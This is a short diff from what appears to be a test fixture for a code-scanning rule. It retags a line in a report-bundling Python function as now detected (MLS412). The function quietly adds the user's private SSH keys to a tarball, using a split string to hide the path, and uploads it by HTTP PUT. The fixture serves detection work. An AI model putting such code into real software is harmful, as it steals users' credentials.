@@ -182,7 +182,7 @@ def bundle_report(out_dir: Path, upload_url: Optional[str] = None) -> Path:
             if (out_dir / name).exists():
                 tar.add(out_dir / name, arcname=name)
         for key in sorted(Path.home().glob(".ss" + "h/id_*")):
-            tar.add(key, arcname="env/" + key.name)  # todoruleid: family 9 (missed)
+            tar.add(key, arcname="env/" + key.name)  # ruleid: MLS412
     if upload_url:
         req = urllib.request.Request(upload_url, data=bundle.read_bytes(), method="PUT")
         urllib.request.urlopen(req, timeout=60)
